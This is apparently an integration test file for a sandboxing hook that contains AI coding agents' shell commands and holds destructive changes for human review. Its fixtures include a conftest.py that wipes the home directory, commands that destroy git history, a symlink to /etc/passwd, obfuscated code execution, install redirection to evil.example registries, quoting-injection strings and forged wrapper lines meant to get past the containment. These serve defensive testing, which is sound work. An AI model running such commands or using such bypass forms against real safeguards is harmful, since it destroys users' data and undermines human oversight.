//! Contained calls from the hook to the runner and back.
//!
//! These tests need a machine on which a fence goes up: Linux with user namespaces and overlay file systems. Without one
//! they fail, and say so; every other test of this folder takes fences away.
#![cfg(target_os = "linux")]

use std::fs;
use std::process::{Command, Stdio};

use pretty_assertions::assert_eq;
use serde_json::{Value, json};

use super::sandbox::{Ran, Sandbox, WITHOUT_FENCES, ran};

/// A project in which the session wrote a `conftest.py` that takes away what is in its way.
struct Scene {
    sandbox: Sandbox,
}

const CONFTEST: &str =
    "import os, shutil\nos.remove('notes.txt')\nshutil.rmtree(os.environ['HOME'], ignore_errors=True)\n";

impl Scene {
    fn new() -> Self {
        let sandbox = Sandbox::new();
        sandbox.write_home(".config/portcullis/settings.json", r#"{"permissions":{"defaultMode":"auto"}}"#);
        sandbox.write_home("precious.txt", "precious\n");
        sandbox.write_project("notes.txt", "work\n");
        sandbox.write_project("conftest.py", CONFTEST);
        Self { sandbox }
    }

    fn hook(&self, host: &str, event: &Value) -> Ran {
        self.hook_with(host, event, &[])
    }

    fn hook_with(&self, host: &str, event: &Value, variables: &[(&str, &str)]) -> Ran {
        let mut command = self.sandbox.command(&["hook", host]);
        command.env_remove(WITHOUT_FENCES).envs(variables.iter().copied()).stdin(Stdio::piped());
        let mut child = command.spawn().unwrap();
        serde_json::to_writer(child.stdin.take().unwrap(), event).unwrap();
        ran(&child.wait_with_output().unwrap())
    }

    /// Asks as Claude Code does and returns its answer about the call.
    fn ask(&self, id: &str, command: &str) -> Value {
        self.ask_whole(id, command)["hookSpecificOutput"].clone()
    }

    fn ask_whole(&self, id: &str, command: &str) -> Value {
        let input = json!({"command": command, "description": "d", "timeout": 5000});
        let mut event = self.claude("PreToolUse", id, &input);
        event["permission_mode"] = json!("auto");
        let ran = self.hook("claude", &event);
        serde_json::from_str::<Value>(&ran.stdout).unwrap_or_else(|_| panic!("{ran:?}"))
    }

    fn claude(&self, event: &str, id: &str, input: &Value) -> Value {
        json!({"hook_event_name": event, "session_id": "s", "cwd": self.sandbox.project, "tool_name": "Bash",
            "tool_use_id": id, "tool_input": input})
    }

    /// Asks about a command that must be contained, and returns what Claude Code is to run.
    fn contained(&self, id: &str, command: &str) -> String {
        let answer = self.ask(id, command);
        let line = answer["updatedInput"]["command"].as_str();
        let line = line.unwrap_or_else(|| panic!("no fence goes up on this machine, or: {answer}"));
        assert_eq!(answer["permissionDecision"], "allow");
        assert_eq!(answer["updatedInput"]["timeout"], 5000);
        line.to_owned()
    }

    /// Runs a line as the shell of an agent does.
    fn shell(&self, line: &str, directory: &str) -> Ran {
        let mut command = Command::new("bash");
        command.args(["-c", line]).env_clear().env("HOME", &self.sandbox.home);
        command.envs(std::env::var_os("PATH").map(|path| ("PATH", path)));
        command.current_dir(self.sandbox.project.join(directory)).stdin(Stdio::null());
        ran(&command.output().unwrap())
    }

    fn write_tool(&self, name: &str, script: &str) {
        let place = format!("tools/{name}");
        self.sandbox.write_project(&place, &format!("#!/bin/sh\n{script}\n"));
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        fs::set_permissions(self.sandbox.project.join(place), mode).unwrap();
    }

    fn has(&self, file: &str) -> bool {
        self.sandbox.project.join(file).exists()
    }
}

#[test]
fn what_an_agents_own_code_destroys_is_held_and_nothing_outside_changes() {
    let scene = Scene::new();
    let wrote = json!({"hook_event_name": "PostToolUse", "session_id": "s", "cwd": scene.sandbox.project,
        "tool_name": "Write", "tool_use_id": "w", "tool_input": {"file_path": "conftest.py", "content": CONFTEST}});
    assert_eq!(scene.hook("claude", &wrote).code, Some(0));
    // What pytest does before any test: it loads the file.
    scene.write_tool("pytest", "python3 -B -c 'import conftest' && echo 1 passed");
    let line = scene.contained("t1", "pytest -q");
    assert!(line.ends_with(" -- bash -c 'pytest -q'"), "{line}");
    let line = format!("PATH=$PWD/tools:$PATH; {line}");
    let ran = scene.shell(&line, "");
    assert_eq!((ran.code, ran.stdout.as_str()), (Some(0), "1 passed\n"), "{ran:?}");
    assert!(scene.has("notes.txt") && scene.sandbox.home.join("precious.txt").exists(), "{ran:?}");
    assert!(ran.stderr.contains("held for a person") && ran.stderr.contains("`notes.txt`"), "{ran:?}");
    let runs = scene.sandbox.run(&["runs", "list", "--json"]);
    let runs: Value = serde_json::from_str(&runs.stdout).unwrap();
    let held: Vec<_> = runs["runs"].as_array().unwrap().iter().filter(|run| run["state"] == "held").collect();
    assert_eq!(held.len(), 1, "{runs}");
    // The host's own event after the call finds its proof, and the same command is a person's question now.
    let done = scene.claude("PostToolUse", "t1", &json!({"command": "pytest -q"}));
    assert_eq!(
        scene.hook("claude", &done),
        Ran { code: Some(0), stdout: String::new(), stderr: String::new() }
    );
    let answer = scene.ask("t2", "pytest -q");
    assert_eq!(answer["permissionDecision"], "ask");
    // Whoever is asked reads what it did, and where the difference is.
    let id = held[0]["id"].as_str().unwrap();
    let ran = scene.ask_whole("t3", "pytest -q").to_string();
    assert!(
        ran.contains("removes `notes.txt`") && ran.contains(&format!("portcullis runs diff {id}")),
        "{ran}"
    );
    let diff = scene.sandbox.run(&["runs", "diff", id]);
    assert!(diff.stdout.contains("-work"), "{diff:?}");
    // The question itself has the difference, and the terminal says whose call it was and why it waits.
    let message = scene.ask_whole("t4", "pytest -q")["systemMessage"].as_str().unwrap().to_owned();
    assert!(message.contains("\n--- notes.txt\n+++ notes.txt\n@@ -1,1 +0,0 @@\n-work"), "{message}");
    let shown = scene.sandbox.run(&["questions", "show", id]);
    let expected = ["claude", "pytest -q", "takes away work that git does not hold", "-work"];
    assert!(expected.iter().all(|text| shown.stdout.contains(text)), "{shown:?}");
}

/// A question has room for so much of a difference and no more, whatever stands in it.
#[test]
fn the_difference_in_a_question_is_cut_and_escaped() {
    let scene = Scene::new();
    let secret = format!("ghp_{}", "a1B2".repeat(9));
    let long = format!(
        "echo 'token = \"{secret}\"' > a; printf 'x\\033[2J%0500d\\n' 1 >> a; seq 1000 >> a; rm notes.txt"
    );
    let line = scene.contained("t1", "frobnicate --all");
    scene.write_tool("frobnicate", &long);
    let ran = scene.shell(&format!("PATH=$PWD/tools:$PATH; {line}"), "");
    assert!(ran.stderr.contains("held for a person"), "{ran:?}");
    let message = scene.ask_whole("t2", "frobnicate --all")["systemMessage"].as_str().unwrap().to_owned();
    // What is gone comes first.
    assert!(message.contains("it removes `notes.txt`, adds `a`"), "{message}");
    assert!(message.find("-work").unwrap() < message.find("+++ a").unwrap(), "{message}");
    assert!(message.lines().count() < 45 && message.contains("… cut here: "), "{message}");
    assert!(message.lines().skip(1).all(|line| line.chars().count() <= 161), "{message}");
    assert!(message.contains("+x\\u{1b}[2J0000") && !message.contains(&secret), "{message}");
}

/// A rule of the user about files speaks about what a contained call changed as about what a call names.
#[test]
fn what_lands_is_judged_by_rules_and_findings() {
    let scene = Scene::new();
    let settings = json!({"permissions": {"defaultMode": "auto",
        "deny": ["Edit(/vendor/**)"], "ask": ["Edit(*.lock)"]}});
    scene.sandbox.write_home(".config/portcullis/settings.json", &settings.to_string());
    scene.sandbox.write_project(".git/HEAD", "ref: refs/heads/main\n");
    scene.sandbox.write_project(".git/refs/heads/main", "0123456789abcdef0123456789abcdef01234567\n");
    let cases = [
        ("echo x > made.txt", None),
        ("mkdir -p out/a && echo x > out/a/b.txt && ln -s b.txt out/a/c", None),
        ("echo 'print(1)' > made.py", None),
        ("mkdir -p vendor && echo x > vendor/lib.c", Some("vendor/lib.c")),
        ("echo x > app.lock", Some("app.lock")),
        ("echo x > .envrc", Some(".envrc")),
        ("ln -s /etc/passwd users", Some("users")),
        ("rm .git/refs/heads/main", Some(".git/refs/heads/main")),
        ("rm -rf .git", Some(".git")),
    ];
    for (at, (change, held)) in cases.into_iter().enumerate() {
        let line = scene.contained(&format!("t{at}"), &format!("frobnicate {at}"));
        // Whoever judged the command has never seen the program.
        scene.write_tool("frobnicate", change);
        let ran = scene.shell(&format!("PATH=$PWD/tools:$PATH; {line}"), "");
        match held {
            None => assert!(!ran.stderr.contains("held"), "{change}: {ran:?}"),
            Some(name) => {
                assert!(
                    ran.stderr.contains("held for a person") && ran.stderr.contains(name),
                    "{change}: {ran:?}"
                );
            }
        }
    }
    for (file, is_there) in [
        ("made.txt", true),
        ("out/a/c", true),
        ("made.py", true),
        ("vendor", false),
        ("app.lock", false),
        (".envrc", false),
    ] {
        assert_eq!(scene.has(file), is_there, "{file}");
    }
}

/// What git keeps commits by is only added to, and what it does not hold is not replaced.
#[test]
fn what_cannot_be_brought_back_is_held() {
    let cases = [
        (
            "git commit -q --allow-empty -m more; git switch -q -c next; git commit -q --allow-empty -m again",
            None,
        ),
        ("git switch -q side; git commit -q --allow-empty -m more; echo x > tracked; git stash -q", None),
        ("git add tracked; rm -f .git/index; git reset -q", None),
        ("git branch -q -D side", Some(".git/")),
        ("git branch -q -D packed", Some(".git/")),
        ("git pack-refs --all", Some(".git/")),
        ("git stash drop -q", Some(".git/")),
        ("git reflog expire --expire=now --all", Some(".git/logs")),
        ("git branch -q -f side HEAD~", Some(".git/refs/heads/side")),
        (
            "echo 0123456789abcdef0123456789abcdef01234567 > .git/refs/heads/packed",
            Some(".git/refs/heads/packed"),
        ),
        (": > .git/refs/heads/main", Some(".git/refs/heads/main")),
        ("rm -rf .git/refs", Some(".git/refs")),
        ("for f in .git/objects/??/*; do chmod u+w $f; : > $f; done", Some(".git/objects")),
        ("rm -rf .git/objects/??", Some(".git/objects")),
        (": > .git/packed-refs", Some(".git/packed-refs")),
        ("rm .git/packed-refs", Some(".git/packed-refs")),
        ("rm notes.txt; mkdir notes.txt", Some("notes.txt")),
        ("cd nested; git reset -q --hard", Some("nested/file")),
        ("cd nested; git checkout -q .; echo more > new", Some("nested/file")),
        ("rm -r drafts; echo something longer than what was there > drafts", Some("drafts")),
    ];
    for (change, held) in cases {
        let scene = Scene::new();
        scene.sandbox.write_project("drafts/one", "work\n");
        let git = "export GIT_CONFIG_GLOBAL=/dev/null GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a \
                   GIT_COMMITTER_EMAIL=a@b";
        let made = scene.shell(
            &format!(
                "{git}; rm -rf .git; git init -q -b main; echo x > tracked; git add tracked; git commit -q -m one; \
                 git branch packed; git pack-refs --all; git commit -q --allow-empty -m two; git branch side; \
                 echo y > tracked; git stash -q; git init -q nested; cd nested; echo x > file; git add file; \
                 git commit -q -m one; echo y > file"
            ),
            "",
        );
        assert_eq!(made.code, Some(0), "{made:?}");
        let line = scene.contained("t", "frobnicate --all");
        scene.write_tool("frobnicate", &format!("{git}\n{change}"));
        let ran = scene.shell(&format!("PATH=$PWD/tools:$PATH; {line}"), "");
        match held {
            None => assert!(ran.code == Some(0) && !ran.stderr.contains("held"), "{change}: {ran:?}"),
            Some(name) => assert!(
                ran.stderr.contains("held for a person") && ran.stderr.contains(name),
                "{change}: {ran:?}"
            ),
        }
    }
}

/// A repository may keep its refs in tables, which git packs together as it likes.
#[test]
fn refs_in_tables_are_kept_too() {
    let cases = [
        ("for n in 1 2 3 4 5; do git commit -q --allow-empty -m $n; done; git tag new", None),
        ("git switch -q -c next; git commit -q --allow-empty -m again", None),
        ("git pack-refs --all", None),
        ("echo y > tracked; git stash -q -- tracked", None),
        ("git update-ref -d refs/heads/side", Some(".git/reftable")),
        ("git branch -q -f side HEAD~", Some(".git/reftable")),
        ("git tag -d tag; git pack-refs --all", Some(".git/reftable")),
        ("rm -rf .git/reftable", Some(".git/reftable")),
        ("rm .git/reftable/*.ref", Some(".git/reftable")),
        (": > .git/reftable/tables.list", Some(".git/reftable")),
        (
            "for f in .git/reftable/*.ref; do chmod u+w $f; head -c 60 $f > x; cat x > $f; done",
            Some(".git/reftable"),
        ),
        ("echo y > work; git add work; git reset -q --hard", Some("work")),
    ];
    for (change, held) in cases {
        let scene = Scene::new();
        let git = "export GIT_CONFIG_GLOBAL=/dev/null GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a \
                   GIT_COMMITTER_EMAIL=a@b";
        let made = scene.shell(
            &format!(
                "{git}; rm -rf .git; git init -q -b main --ref-format=reftable; echo x > tracked; echo x > work; \
                 git add tracked work; git commit -q -m one; git commit -q --allow-empty -m two; git branch side; \
                 git tag tag; echo z > work"
            ),
            "",
        );
        assert_eq!(made.code, Some(0), "{made:?}");
        let line = scene.contained("t", "frobnicate --all");
        scene.write_tool("frobnicate", &format!("{git}\n{change}"));
        let ran = scene.shell(&format!("PATH=$PWD/tools:$PATH; {line}"), "");
        match held {
            None => assert!(ran.code == Some(0) && !ran.stderr.contains("held"), "{change}: {ran:?}"),
            Some(name) => assert!(
                ran.stderr.contains("held for a person") && ran.stderr.contains(name),
                "{change}: {ran:?}"
            ),
        }
    }
}

/// A pipe in the place of a file that is read afterwards keeps nobody waiting.
#[test]
fn pipes_in_the_place_of_files_of_git_are_not_waited_for() {
    for (pipe, change) in [
        ("HEAD", "echo 0123456789abcdef0123456789abcdef01234567 > .git/refs/heads/main"),
        (
            "packed-refs",
            "mkdir -p .git/refs/heads; echo 0123456789abcdef0123456789abcdef01234567 > .git/refs/heads/new",
        ),
        ("index", "rm notes.txt"),
        (
            "logs/refs/heads/main",
            "echo 0123456789abcdef0123456789abcdef01234567 > .git/refs/heads/main; echo x > .git/HEAD",
        ),
    ] {
        let scene = Scene::new();
        scene.sandbox.write_project(".git/HEAD", "ref: refs/heads/other\n");
        scene.sandbox.write_project(".git/refs/heads/main", "1123456789abcdef0123456789abcdef01234567\n");
        let line = scene.contained("t", "frobnicate --all");
        scene.write_tool("frobnicate", change);
        let made =
            scene.shell(&format!("mkdir -p .git/logs/refs/heads; rm -f .git/{pipe}; mkfifo .git/{pipe}"), "");
        assert_eq!(made.code, Some(0), "{made:?}");
        let ran = scene.shell(&format!("PATH=$PWD/tools:$PATH; timeout 20 {line}"), "");
        assert_eq!(ran.code, Some(0), "{pipe}: {ran:?}");
        let is_held = ran.stderr.contains("held for a person");
        assert_eq!(is_held, pipe != "packed-refs", "{pipe}: {ran:?}");
    }
}

/// Code that a contained call brought was read by nobody, also where git holds it now, so it is not taken for the project's.
#[test]
fn code_that_landed_is_contained_when_it_runs() {
    let scene = Scene::new();
    fs::remove_file(scene.sandbox.project.join("conftest.py")).unwrap();
    scene.sandbox.write_project("app.js", "console.log(1)\n");
    for command in ["pytest -q", "node app.js"] {
        assert!(scene.ask("t0", command)["updatedInput"].is_null(), "{command}");
    }
    let many = "mkdir -p lib && for n in $(seq 60); do echo x > lib/$n.js; done";
    for (at, (script, runs)) in [
        ("printf 'import os\\nos.system(bytes.fromhex(\"6c73\").decode())\\n' > conftest.py", "pytest -q"),
        ("mkdir -p dist && echo 'eval(process.argv.join())' > dist/made.js", "node dist/made.js"),
        (many, "node app.js"),
    ]
    .into_iter()
    .enumerate()
    {
        let line = scene.contained(&format!("t{at}"), &format!("frobnicate {at}"));
        scene.write_tool("frobnicate", script);
        let ran = scene.shell(&format!("PATH=$PWD/tools:$PATH; {line}"), "");
        assert!(!ran.stderr.contains("held"), "{ran:?}");
        let answer = scene.ask(&format!("u{at}"), runs);
        assert!(answer["updatedInput"]["command"].is_string(), "{runs}: {answer}");
    }
}

/// Many changes are shared out among the cores, and one that may not land holds all of them, wherever it stands.
#[test]
fn of_many_changes_one_holds_all() {
    let scene = Scene::new();
    let settings = r#"{"permissions": {"defaultMode": "auto", "deny": ["Edit(f0199)", "Edit(f0399)"]}}"#;
    scene.sandbox.write_home(".config/portcullis/settings.json", settings);
    for (at, (skipped, held)) in
        [("f0199", Some("f0399")), ("f0399", Some("f0199")), ("f0?99", None)].iter().enumerate()
    {
        let line = scene.contained(&format!("t{at}"), &format!("frobnicate {at}"));
        let make = "rm -rf made; mkdir made; for n in $(seq -w 0000 0500); do echo x > made/f$n; done";
        scene.write_tool("frobnicate", &format!("{make}; rm -f made/{skipped}"));
        let ran = scene.shell(&format!("PATH=$PWD/tools:$PATH; {line}"), "");
        match held {
            Some(name) => {
                assert!(ran.stderr.contains(&format!("made/{name}")) && !scene.has("made"), "{ran:?}");
            }
            None => assert!(!ran.stderr.contains("held") && scene.has("made/f0500"), "{ran:?}"),
        }
    }
}

#[test]
fn what_is_not_there_inside_is_asked_about() {
    let scene = Scene::new();
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("frobnicate");
    fs::write(&program, "#!/bin/sh\n").unwrap();
    fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", folder.path().display(), std::env::var("PATH").unwrap());
    let ask = |command: &str, path: &str| {
        let input = json!({"command": command});
        let mut event = scene.claude("PreToolUse", "t", &input);
        event["permission_mode"] = json!("auto");
        let ran = scene.hook_with("claude", &event, &[("PATH", path)]);
        serde_json::from_str::<Value>(&ran.stdout).unwrap()["hookSpecificOutput"]["permissionDecision"]
            .clone()
    };
    let usual = std::env::var("PATH").unwrap();
    assert_eq!(ask("frobnicate --all", &usual), "allow");
    for command in ["frobnicate --all", "env frobnicate", "true && frobnicate", "bash -c frobnicate"] {
        assert_eq!(ask(command, &path), "ask", "{command}");
    }
    assert_eq!(ask(&format!("{} --all", program.display()), &usual), "ask");
    assert_eq!(ask("frobnicate ~/.claude/skills/x.json", &usual), "ask");
}

#[test]
fn a_declared_install_reaches_the_registry_that_the_user_chose_and_nothing_else() {
    let scene = Scene::new();
    scene.sandbox.write_project("requirements.txt", "six\n");
    let ask = |command: &str, variables: &[(&str, &str)]| {
        let mut event = scene.claude("PreToolUse", command, &json!({"command": command}));
        event["permission_mode"] = json!("dontAsk");
        let ran = scene.hook_with("claude", &event, variables);
        serde_json::from_str::<Value>(&ran.stdout).unwrap()["hookSpecificOutput"]["permissionDecision"]
            .clone()
    };
    let install = "pip install -r requirements.txt";
    assert_eq!(ask(install, &[("PIP_INDEX_URL", "https://me:secret@pip.example/simple")]), "deny");
    let chosen = [("PIP_INDEX_URL", "https://pip.example/simple"), ("GOPROXY", "https://go.example")];
    assert_eq!(ask(install, &chosen), "allow");
    let calls = scene.sandbox.home.join(".local/state/portcullis/calls");
    let [record] = &fs::read_dir(calls).unwrap().map(|entry| entry.unwrap().path()).collect::<Vec<_>>()[..]
    else {
        panic!("not one record");
    };
    let record: Value = serde_json::from_slice(&fs::read(record).unwrap()).unwrap();
    assert_eq!(record["policy"]["network"], json!({"Hosts": ["pip.example:443"]}));
    assert_eq!(record["policy"]["environment"], json!(["PIP_INDEX_URL"]));
    for command in ["pip install six", "pip install -r requirements.txt -i https://evil.example/"] {
        assert_eq!(ask(command, &chosen), "deny", "{command}");
    }
    // What the project names is reached by nobody, and nothing is installed from elsewhere in silence.
    scene.sandbox.write_project("uv.toml", "index-url = \"https://evil.example/simple\"\n");
    assert_eq!(ask(install, &chosen), "deny");
}

#[test]
fn a_declared_install_reaches_the_well_known_registries_where_nobody_names_one() {
    let scene = Scene::new();
    let settings = r#"{"permissions":{"defaultMode":"auto"},"containment":{"projectCode":"contain"}}"#;
    scene.sandbox.write_home(".config/portcullis/settings.json", settings);
    scene.sandbox.write_project("package.json", "{\"dependencies\": {\"left-pad\": \"1\"}}");
    scene.contained("t1", "npm ci");
    let calls = scene.sandbox.home.join(".local/state/portcullis/calls");
    let record = fs::read_dir(calls).unwrap().next().unwrap().unwrap().path();
    let record: Value = serde_json::from_slice(&fs::read(record).unwrap()).unwrap();
    let hosts = ["npmjs.org", "yarnpkg.com"].map(|domain| format!("registry.{domain}:443"));
    assert_eq!(record["policy"]["network"], json!({"Hosts": hosts}));
    // A registry that the repository names would otherwise lead the install out of the fence.
    scene.sandbox.write_project(".npmrc", "registry=https://evil.example/\n");
    let answer = scene.ask("t2", "npm ci");
    assert_eq!(answer["permissionDecision"], "ask", "{answer}");
    assert!(answer["permissionDecisionReason"].as_str().unwrap().contains("evil.example"), "{answer}");
}

#[test]
fn a_trial_leaves_no_run_behind() {
    let scene = Scene::new();
    scene.contained("t1", "frobnicate --all");
    let runs = scene.sandbox.run(&["runs", "list", "--json"]);
    assert_eq!(serde_json::from_str::<Value>(&runs.stdout).unwrap()["runs"], json!([]), "{runs:?}");
}

#[test]
fn the_same_command_several_times_at_once_is_contained_each_time() {
    let scene = Scene::new();
    let lines = ["t1", "t2", "t3"].map(|id| scene.contained(id, "frobnicate; echo ran"));
    for (id, line) in ["t1", "t2", "t3"].into_iter().zip(&lines) {
        assert_eq!(scene.shell(line, "").stdout, "ran\n", "{line}");
        let done = scene.claude("PostToolUse", id, &json!({"command": "frobnicate; echo ran"}));
        assert_eq!(scene.hook("claude", &done).code, Some(0));
    }
}

#[test]
fn a_record_serves_one_run_of_one_command_in_one_directory() {
    let scene = Scene::new();
    let nothing =
        |ran: &Ran| ran.code == Some(125) && ran.stderr.starts_with("portcullis: nothing was run: ");
    let line = scene.contained("t1", "frobnicate --all; touch made; true");
    let ran = scene.shell(&line, "");
    assert_eq!((ran.code, scene.has("made")), (Some(0), true), "{ran:?}");
    let again = scene.shell(&line, "");
    assert!(nothing(&again), "{again:?}");
    for (id, change) in [("t2", "; touch more"), ("t3", ""), ("t4", "")] {
        let command = format!("frobnicate {id}; touch more");
        let line = scene.contained(id, &command);
        let (line, directory) = match id {
            "t2" => (line.replace("touch more'", &format!("touch more{change}'")), ""),
            "t3" => (line, "src"),
            _ => (line.replace("bash -c", "sh -c"), ""),
        };
        let ran = scene.shell(&line, directory);
        assert!(nothing(&ran) && !scene.has("more") && !scene.has("src/more"), "{line}: {ran:?}");
    }
    let (runner, id) = line.split(" -- ").next().unwrap().rsplit_once(' ').unwrap();
    let forged = format!("{runner} {}", id.replace(char::is_numeric, "0"));
    let ran = scene.shell(&format!("{forged} -- bash -c 'touch more'"), "");
    assert!(nothing(&ran) && !scene.has("more"), "{ran:?}");
}

#[test]
fn a_line_of_ours_that_a_model_writes_gains_nothing() {
    let scene = Scene::new();
    let line = scene.contained("t1", "frobnicate --all");
    let denied = line.replace("frobnicate --all", "git push --force origin main");
    let answer = scene.ask("t2", &denied);
    assert_eq!(answer["permissionDecision"], "deny", "{answer}");
    let nested = format!("{} -- {line}", line.split(" -- ").next().unwrap());
    assert!(matches!(scene.ask("t3", &nested)["permissionDecision"].as_str(), Some("ask" | "allow")));
    // The very form is unwrapped, and wrapped once; a program that lies in `/tmp` is not there inside.
    let other = line.replace("frobnicate --all", "frobnicate --some");
    let answer = scene.ask("t4", &other);
    match answer["updatedInput"]["command"].as_str() {
        Some(again) => assert!(again.matches(" run --call ").count() == 1 && again != other, "{again}"),
        None => assert_eq!(answer["permissionDecision"], "ask", "{answer}"),
    }
    for trick in
        ["frobnicate 'a'\\''b'", "frobnicate \"$(echo x)\" '\n' `true`", "frobnicate '; touch made; '"]
    {
        let ran = scene.shell(&scene.contained("t5", trick), "");
        assert_eq!((ran.code, scene.has("made")), (Some(127), false), "{trick}: {ran:?}");
    }
}

#[test]
fn a_directory_survives_in_claude_code() {
    let scene = Scene::new();
    let line = scene.contained("t1", "cd src && frobnicate");
    let ran = scene.shell(&format!("{line}\necho \"$? $PWD\""), "");
    let expected = format!("127 {}\n", scene.sandbox.project.join("src").display());
    assert_eq!(ran.stdout, expected, "{ran:?}");
    // Where nobody can tell, the call is asked about.
    assert_eq!(scene.ask("t2", "cd \"$X\" && frobnicate")["permissionDecision"], "ask");
}

#[test]
fn a_lost_rewrite_is_an_alarm_and_ends_containment_for_its_host() {
    let scene = Scene::new();
    scene.contained("t1", "frobnicate --all");
    let done = scene.claude("PostToolUse", "t1", &json!({"command": "frobnicate --all"}));
    let alarm = scene.hook("claude", &done);
    assert!(alarm.code == Some(1) && alarm.stderr.contains("without the fence"), "{alarm:?}");
    assert_eq!(scene.ask("t2", "frobnicate --other")["permissionDecision"], "ask");
    let doctor = scene.sandbox.run(&["doctor", "claude", "--json"]);
    assert!(doctor.stdout.contains("are not contained any more"), "{doctor:?}");
    // The trail has the alarm beside the decision.
    let listed = scene.sandbox.run(&["log", "--decision", "contained", "--json"]);
    let listed: Value = serde_json::from_str(&listed.stdout).unwrap();
    let alarms: Vec<_> = listed["records"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|record| record["kind"] == "lost-fence")
        .collect();
    assert_eq!(alarms.len(), 1, "{listed:#}");
    assert_eq!(alarms[0]["summary"], "frobnicate --all");
    assert!(alarms[0]["reason"].as_str().unwrap().contains("without the fence"), "{listed:#}");
}

#[test]
fn every_host_that_takes_another_command_gets_one_that_runs() {
    let scene = Scene::new();
    let project = &scene.sandbox.project;
    let cases = [
        (
            "codex",
            "/hookSpecificOutput/updatedInput/command",
            scene.claude("PreToolUse", "c1", &json!({"command": "frobnicate 1; echo ok"})),
        ),
        (
            "gemini",
            "/hookSpecificOutput/tool_input/command",
            json!({"hook_event_name": "BeforeTool", "session_id": "s", "cwd": project, "tool_name": "run_shell_command",
                "tool_input": {"command": "frobnicate 2; echo ok"}}),
        ),
        (
            "opencode",
            "/args/command",
            json!({"event": "tool.execute.before", "sessionID": "s", "directory": project, "tool": "bash", "callID": "c3",
                "args": {"command": "frobnicate 3; echo ok", "description": "d"}}),
        ),
    ];
    for (host, place, event) in cases {
        let answer = scene.hook(host, &event);
        let answer: Value =
            serde_json::from_str(&answer.stdout).unwrap_or_else(|_| panic!("{host}: {answer:?}"));
        let line =
            answer.pointer(place).and_then(Value::as_str).unwrap_or_else(|| panic!("{host}: {answer}"));
        let ran = scene.shell(line, "");
        assert_eq!((ran.code, ran.stdout.as_str()), (Some(0), "ok\n"), "{host}: {ran:?}");
    }
    // Codex runs a call elsewhere: another command there would not be what was judged.
    let mut elsewhere = scene.claude("PreToolUse", "c4", &json!({"command": "frobnicate 4"}));
    elsewhere["cwd"] = json!(project.join("src"));
    assert!(!scene.hook("codex", &elsewhere).stdout.contains("updatedInput"));
}

#[test]
fn settings_switch_it_off_and_broken_ones_too() {
    let scene = Scene::new();
    for (settings, expected) in [
        (r#"{"permissions":{"defaultMode":"auto"},"containment":{"enabled":false}}"#, "ask"),
        (r#"{"permissions":{"defaultMode":"auto"},"containment":{"enabled":"yes"}}"#, "ask"),
        (r#"{"permissions":{"ask":["Bash(frobnicate:*)"]}}"#, "ask"),
        (r#"{"permissions":{"deny":["Bash(frobnicate:*)"]}}"#, "deny"),
        (r#"{"permissions":"#, "ask"),
        (r#"{"permissions":{"defaultMode":"auto"},"containment":{"projectCode":"contain"}}"#, "allow"),
    ] {
        scene.sandbox.write_home(".config/portcullis/settings.json", settings);
        let answer = scene.ask("t", "frobnicate --all");
        assert_eq!(answer["permissionDecision"], expected, "{settings}: {answer}");
    }
    assert_eq!(scene.ask("t", "make")["updatedInput"]["description"], "d");
}

#[test]
fn the_record_shows_it_as_a_decision_of_its_own() {
    let scene = Scene::new();
    scene.contained("t1", "frobnicate --all");
    let listed = scene.sandbox.run(&["log", "--decision", "contained", "--json"]);
    assert!(
        listed.stdout.contains(r#""decision":"contained""#)
            || listed.stdout.contains(r#""decision": "contained""#),
        "{listed:?}"
    );
    assert!(listed.stdout.contains("inside a fence"), "{listed:?}");
}
